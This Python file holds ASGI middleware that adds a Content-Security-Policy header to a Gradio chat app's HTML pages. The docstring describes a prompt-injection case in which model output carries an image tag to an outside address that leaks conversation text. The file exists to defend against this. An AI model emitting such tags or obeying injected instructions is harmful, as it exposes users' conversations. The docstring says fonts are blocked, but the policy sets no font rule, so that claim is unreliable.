"""What the page may load: only the app's own files. An answer is model output, and a prompt-injected
image could make the model write `<img src="https://elsewhere/?q=...">` or `![](https://...)`: Gradio's
sanitizer keeps images, so the browser would fetch that address, carrying conversation text. The
Content-Security-Policy header on the app's pages stops every image, media, font or object load from
another origin, whatever the chat or Compare panels render."""

POLICY = b"img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'"


class NoRemoteResources:
    """ASGI middleware adding POLICY to every HTML response (pure ASGI: streamed events pass untouched)."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                if any(k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in headers):
                    headers.append((b"content-security-policy", POLICY))
                    message = dict(message, headers=headers)
            await send(message)

        await self.app(scope, receive, send_with_policy)
